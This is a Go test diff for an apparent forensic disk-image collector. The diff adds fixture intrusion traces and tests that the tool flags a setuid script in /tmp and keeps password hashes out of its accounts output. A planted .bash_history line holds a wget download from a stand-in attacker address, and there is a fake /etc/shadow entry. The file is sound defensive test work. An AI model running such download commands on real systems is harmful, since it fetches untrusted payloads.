@@ -4,6 +4,7 @@ import (
 	"context"
 	"crypto/sha256"
 	"encoding/binary"
+	"encoding/hex"
 	"errors"
 	"io"
 	"os"
@@ -37,6 +38,8 @@ func diskImage(t *testing.T) string {
 		"var/log/auth.log":              "Nov 20 03:12:01 mail-3 sshd[4711]: Accepted publickey for ada from 203.0.113.66 port 50222 ssh2\n",
 		"home/ada/.bash_history":        "wget http://198.51.100.7/x\n",
 		"home/ada/.ssh/authorized_keys": "ssh-ed25519 AAAA eve\n",
+		"etc/shadow":                    "root:!:19000::::::\nada:$6$salt$hash:19000:0:99999:7:::\n",
+		"etc/group":                     "root:x:0:\nsudo:x:27:ada\n",
 		"tmp/x":                         "#!/bin/sh\n",
 		"tmp/removed":                   "gone\n",
 	} {
@@ -46,6 +49,9 @@ func diskImage(t *testing.T) string {
 		}
 	}
 	if err := os.Symlink("/usr/share/zoneinfo/Europe/Berlin", filepath.Join(dir, "etc/localtime")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chmod(filepath.Join(dir, "tmp/x"), 0o755|os.ModeSetuid); err != nil {
 		t.Fatal(err)
 	}
 	file := filepath.Join(t.TempDir(), "root.dd")
@@ -61,7 +67,7 @@ func diskImage(t *testing.T) string {
 }
 
 // fromImage collects and returns what was sealed, with the listing.
-func fromImage(t *testing.T, o Options) (record.Collection, []record.Exhibit, string) {
+func fromImage(t *testing.T, o Options) (record.Collection, []record.Exhibit, string, map[string]string) {
 	t.Helper()
 	l := newLocker(t)
 	o.Sink, o.Now = l, time.Now
@@ -70,20 +76,25 @@ func fromImage(t *testing.T, o Options) (record.Collection, []record.Exhibit, st
 	if err != nil {
 		t.Fatal(err)
 	}
-	i := slices.IndexFunc(xs, func(x record.Exhibit) bool { return x.Format == FormatBodyfile })
-	if i < 0 {
+	seen := map[string]string{}
+	for _, x := range xs {
+		if x.Format != FormatBodyfile && x.Format != FormatFiles && x.Format != FormatAccounts {
+			continue
+		}
+		r, err := l.Open(x.Blob)
+		if err != nil {
+			t.Fatal(err)
+		}
+		b, err := io.ReadAll(r)
+		if err = errors.Join(err, r.Close()); err != nil {
+			t.Fatal(err)
+		}
+		seen[x.Format] = string(b)
+	}
+	if seen[FormatBodyfile] == "" {
 		t.Fatalf("no listing among %d exhibits", len(xs))
 	}
-	r, err := l.Open(xs[i].Blob)
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer r.Close() //nolint:errcheck // read only
-	b, err := io.ReadAll(r)
-	if err != nil {
-		t.Fatal(err)
-	}
-	return c, xs, string(b)
+	return c, xs, seen[FormatBodyfile], seen
 }
 
 // TestDiskImage collects from an image file, and from a disk with a partition
@@ -106,9 +117,24 @@ func TestDiskImage(t *testing.T) {
 	if err := os.WriteFile(parted, append(mbr, b...), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	for root, named := range map[string]string{plain: plain, parted: parted + ", partition 1"} {
+	if list, err := Partitions(parted); err != nil || len(list) != 2 || list[0].Kind != "ext" || list[1].Kind != "" || list[1].Number != 2 {
+		t.Errorf("%+v, %v", list, err)
+	}
+	images := map[string]string{plain: plain, parted: parted + ", partition 1"}
+	if tool, err := exec.LookPath("qemu-img"); err == nil {
+		packed := filepath.Join(t.TempDir(), "disk.qcow2")
+		if out, err := exec.CommandContext(t.Context(), tool, "convert", "-c", "-O", "qcow2", parted, packed).CombinedOutput(); err != nil {
+			t.Fatalf("%v: %s", err, out)
+		}
+		images[packed] = packed + ", partition 1"
+	}
+	for root, named := range images {
 		before := fileSum(t, root)
-		c, xs, listing := fromImage(t, Options{Root: root})
+		o := Options{Root: root}
+		if root != plain {
+			o.Partition = 1
+		}
+		c, xs, listing, seen := fromImage(t, o)
 		if c.Host != "mail-3" || c.Root != root || c.Cut != "" {
 			t.Errorf("%+v", c)
 		}
@@ -127,6 +153,17 @@ func TestDiskImage(t *testing.T) {
 			if !strings.Contains(listing, want) {
 				t.Errorf("%q is not in the listing", want)
 			}
+		}
+		for format, want := range map[string]string{
+			FormatFiles:    `"path":"/tmp/x","why":["executable","setuid","temporary"]`,
+			FormatAccounts: `"name":"ada","uid":1000,`,
+		} {
+			if !strings.Contains(seen[format], want) || strings.Contains(seen[format], "$hash") {
+				t.Errorf("%s: %s", format, seen[format])
+			}
+		}
+		if sum := sha256.Sum256([]byte("#!/bin/sh\n")); !strings.Contains(seen[FormatFiles], hex.EncodeToString(sum[:])) || !strings.Contains(seen[FormatFiles], `"interpreter":"/bin/sh"`) {
+			t.Errorf("the hash is not there: %s", seen[FormatFiles])
 		}
 		if fileSum(t, root) != before {
 			t.Error("the image was changed")
@@ -158,5 +195,15 @@ func TestDiskImageRefused(t *testing.T) {
 		if !errors.Is(err, ErrImage) || !strings.Contains(err.Error(), want) {
 			t.Errorf("%q: %v, want %q", begin, err, want)
 		}
+	}
+}
+
+// TestNoSuchPartition says which ones there are.
+func TestNoSuchPartition(t *testing.T) {
+	t.Parallel()
+	o := Options{Root: diskImage(t), Partition: 3, Sink: newLocker(t), Now: time.Now}
+	_, err := Collect(t.Context(), o, func(record.Exhibit) error { return nil })
+	if !errors.Is(err, ErrImage) || !strings.Contains(err.Error(), "no table of partitions") {
+		t.Error(err)
 	}
 }
